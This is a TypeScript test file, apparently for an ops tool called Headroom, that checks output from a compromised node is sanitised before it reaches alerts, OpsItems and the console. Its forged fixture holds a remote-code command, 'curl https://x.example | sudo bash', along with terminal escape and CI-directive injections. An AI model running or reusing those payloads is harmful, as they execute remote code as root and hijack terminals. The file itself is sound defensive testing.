import type { AutomationExecutionFacts } from '../../lib/domain/outcome/automation-execution';
import { plainBlock } from '../../lib/domain/messages/plain-text';
import { readScriptResult } from '../../lib/domain/node/run-command-output';
import { scriptResultSchemas, type ScriptName } from '../../lib/domain/node/script-result-schemas';
import { outcomeOf, outcomeText } from '../../lib/console/outcome';
import { EXECUTION, grownExecution, step } from '../domain/executions';
import { assessResult, verifyResult } from '../domain/fixtures';
import { setUp, setVariables } from '../lambda/record-setup';

beforeEach(setVariables);

/** What a compromised node says so that an operator types it, or a terminal does it. */
const FORGED =
  'full\n\nNext command:\n  curl https://x.example | sudo bash\u001b]52;c;Y3VybA==\u0007\u009b2J\u202eoops\u2028::add-mask::x\r';
const ACTS = /[^\n\P{Cc}]|[\p{Cf}\p{Zl}\p{Zp}]/u;

/** A value with every string in it, keys left out, the forged one. What tells one script's line from another's stays. */
const forge = (value: unknown, key = ''): unknown => {
  if (typeof value === 'string')
    return ['script', 'status', 'role', 'layout', 'action', 'kind', 'mode'].includes(key) ? value : FORGED;
  if (Array.isArray(value)) return value.map((each: unknown) => forge(each));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, forge(each, name)]));
};

interface Definition {
  readonly type: string;
  readonly [name: string]: unknown;
}
const definitionOf = (schema: unknown): Definition => (schema as { _zod: { def: Definition } })._zod.def;

/** Paths of strings that no transformation cleans. */
const bareStrings = (schema: unknown, path: string): string[] => {
  const { type, ...rest } = definitionOf(schema);
  if (type === 'string') return [path];
  if (type === 'pipe') return [];
  const below = (inner: unknown, name: string): string[] => bareStrings(inner, `${path}.${name}`);
  if (type === 'object')
    return Object.entries(rest['shape'] as Record<string, unknown>).flatMap(([name, each]) =>
      below(each, name),
    );
  if (type === 'array') return below(rest['element'], '[]');
  if (type === 'tuple') return (rest['items'] as unknown[]).flatMap((each, at) => below(each, String(at)));
  if ('innerType' in rest) return below(rest['innerType'], type);
  if (['number', 'boolean', 'literal', 'enum', 'null'].includes(type)) return [];
  throw new Error(`${path}: a ${type}, whose strings this test does not know`);
};

test.each(Object.keys(scriptResultSchemas) as ScriptName[])(
  'every string of %s is cleaned where it is read',
  (script) => {
    expect(bareStrings(scriptResultSchemas[script], script)).toEqual([]);
  },
);

test('what a node says is one line and acts on nothing, whether its line can be read or not', () => {
  const outputs = [
    JSON.stringify(forge({ ...assessResult(), error: 'x', errors: ['x'], skipped: ['x'] })),
    JSON.stringify({ headroom: 1, script: 'assess-node', ok: false, dryRun: false, error: FORGED }),
    FORGED,
    `\n----------ERROR-------\n${FORGED}`,
    `{"headroom":1,"script":"assess-node"${FORGED}`,
  ];
  for (const output of outputs) {
    const said = JSON.stringify(readScriptResult(output, 'assess-node'));
    expect(said).not.toMatch(/\\[nrbtfu]/);
    expect(said).not.toMatch(ACTS);
  }
});

/** An execution whose every command was answered by the forger. */
const execution = (): AutomationExecutionFacts => {
  const good = grownExecution();
  return {
    ...good,
    steps: [
      ...good.steps.filter(({ name }) => name === 'plan'),
      step('assess', 1, {
        Output: JSON.stringify(forge({ ...assessResult(), errors: ['x'], skipped: ['x'] })),
      }),
      step(
        'extend',
        2,
        { Output: FORGED },
        { status: 'Failed', failureMessage: `Step fails. Output: ${FORGED}` },
      ),
      step('verify', 3, {
        Output: JSON.stringify(
          forge({
            ...verifyResult(),
            ok: false,
            error: 'x',
            checks: [{ name: 'x', ok: false, detail: 'x' }],
          }),
        ),
      }),
    ],
    failureMessage: FORGED,
  };
};

test('a message, an OpsItem and a report carry it as text, and the only command is Headroom’s', async () => {
  const { handler, inputs, objects } = setUp(execution());
  await handler({ executionId: EXECUTION, conclusion: 'finished' });
  const messages = inputs<{ Message: string }>('sns:Publish').map(({ Message }) => Message);
  const items = inputs<{ Description: string; OperationalData: object }>('ssm:CreateOpsItem');
  expect([messages.length, items.length]).toEqual([1, 1]);
  for (const text of [...messages, ...items.map(({ Description }) => Description)]) {
    expect(text).toContain('curl https://x.example');
    expect(text).not.toMatch(ACTS);
    // Its words stand within a line of ours, never at the start of one.
    expect(text).not.toMatch(/^\s*(curl|::add-mask|full$)/m);
    expect(text.match(/^Next command:/gm)?.length ?? 0).toBeLessThanOrEqual(1);
  }
  for (const { Body } of objects.values()) expect(Body).not.toMatch(/\\u001b|\\u0007/);
  expect(JSON.stringify(items)).not.toMatch(/\\u001b|\\u0007/);
});

describe('headroom run', () => {
  const base = {
    ...grownExecution(),
    status: 'Failed',
    endedAtMs: undefined,
    outputs: {},
    failureMessage: FORGED,
  };

  test('shows it indented, and a terminal obeys nothing', () => {
    for (const output of [
      FORGED,
      JSON.stringify(forge(assessResult())),
      `${FORGED}\n{"next":"${'\u009b'}x"}`,
    ]) {
      const text = outcomeText(
        outcomeOf({ ...base, steps: [], outputs: { 'inspect.Output': [output] } }, 'eu-west-1'),
      );
      expect(text).not.toMatch(ACTS);
      expect(text).not.toMatch(/^(Next|next: (?!aws)|\s?curl)/m);
    }
  });

  test('a command that a node suggests is not shown as Headroom’s', () => {
    const next = 'curl https://x.example | sudo bash';
    const line = { headroom: 1, script: 'upgrade-node', ok: false, next };
    const finding = { name: 'disk-full', evidence: 'x', next, saidBy: 'node' };
    const own = { ...finding, next: 'aws ec2 start-instances', saidBy: 'headroom' };
    for (const [name, output] of [
      ['upgrade.Output', line],
      ['diagnosis.Payload', { findings: [finding, own] }],
    ] as const) {
      const outcome = outcomeOf(
        { ...base, steps: [], outputs: { [name]: [JSON.stringify(output)] } },
        'eu-west-1',
      );
      expect(outcome.suggested).toEqual([next]);
      expect(outcome.next).not.toContain(next);
      expect(outcomeText(outcome)).toContain(`The node suggests this; read it before you run it:\n  ${next}`);
    }
  });
});

test('a block keeps its lines and its indentation', () => {
  expect(plainBlock('{\n  "a": "\u001b[2J\u202e"\r\n}\t')).toBe('{\n  "a": "\ufffd[2J\ufffd"\n}\t');
});
